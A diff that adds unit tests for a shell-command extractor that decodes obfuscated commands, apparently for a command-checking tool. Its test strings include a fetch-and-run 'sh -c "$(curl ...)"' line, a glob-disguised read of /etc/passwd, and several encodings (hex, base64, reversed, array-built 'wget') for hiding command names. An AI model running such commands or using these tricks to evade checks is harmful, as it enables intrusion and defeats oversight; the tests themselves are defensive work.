@@ -67,3 +67,56 @@ def test_wrappers_run_the_command_they_are_given() -> None:
 
 def test_a_nested_shell_without_a_script_is_only_itself() -> None:
     assert commands("bash install.sh --quiet") == [("bash", ("install.sh", "--quiet"))]
+
+
+def test_sh_c_of_a_download_runs_the_download_inside_it() -> None:
+    commands = extract_commands('sh -c "$(curl -fsSL https://example.test/i.sh)"', Shell.SHELL)
+    downloads = [c for c in commands if c.program == "curl"]
+    assert commands[0].program == "sh" and downloads
+    assert "https://example.test/i.sh" in downloads[0].arguments
+
+
+def test_su_c_runs_its_script_as_a_shell_would() -> None:
+    commands = extract_commands("su -l ops -c 'id; touch /tmp/x'", Shell.SHELL)
+    assert [c.program for c in commands] == ["su", "id", "touch"]
+
+
+def test_array_elements_indexed_by_number_are_folded() -> None:
+    (command,) = extract_commands("a=(w g e t); ${a[0]}${a[1]}${a[2]}${a[3]} -q x", Shell.SHELL)
+    assert (command.program, command.arguments) == ("wget", ("-q", "x"))
+    assert extract_commands('b=(cat /etc/hosts); "${b[@]}"', Shell.SHELL)[0].program == "cat /etc/hosts"
+
+
+def test_ansi_c_strings_and_static_substitutions_are_decoded() -> None:
+    assert extract_commands("$'\\x69\\x64' -u", Shell.SHELL)[0].program == "id"
+    assert extract_commands("x=$(printf '\\151\\144'); $x", Shell.SHELL)[-1].program == "id"
+    assert extract_commands("x=$(printf %s%s i d); $x", Shell.SHELL)[-1].program == "id"
+    assert extract_commands('x=$(echo -e "\\x69\\x64"); $x', Shell.SHELL)[-1].program == "id"
+    assert extract_commands("x=$(echo di | rev); $x", Shell.SHELL)[-1].program == "id"
+    assert extract_commands("x=$(echo aWQ= | base64 -d); $x", Shell.SHELL)[-1].program == "id"
+
+
+def test_a_substitution_that_reads_the_system_stays_as_written() -> None:
+    assert extract_commands("x=$(hostname); $x", Shell.SHELL)[-1].program == "$x"
+
+
+def test_a_loop_over_literal_values_builds_its_variable() -> None:
+    assert extract_commands("for c in i d; do s=$s$c; done; $s", Shell.SHELL)[-1].program == "id"
+
+
+def test_a_loop_over_too_many_values_is_not_simulated() -> None:
+    values = " ".join(["a"] * 300)
+    assert extract_commands(f"for c in {values}; do s=$s$c; done; $s", Shell.SHELL)[-1].program != "a" * 300
+
+
+def test_glob_paths_resolve_against_the_standard_names() -> None:
+    (command,) = extract_commands("/???/?at /???/p?ss??", Shell.SHELL)
+    assert (command.program, command.arguments) == ("/bin/cat", ("/etc/passwd",))
+    assert extract_commands("/???/??n/???n?f x", Shell.SHELL)[0].program == "/usr/bin/printf"
+    assert extract_commands("/???/zz?zz", Shell.SHELL)[0].program == "/???/zz?zz"
+
+
+def test_substitutions_nested_deeper_than_the_limit_are_kept_as_written() -> None:
+    nested = "$(echo " * 10 + "id" + ")" * 10
+    commands = extract_commands(f"x={nested}; $x", Shell.SHELL)
+    assert commands[-1].program != "id"
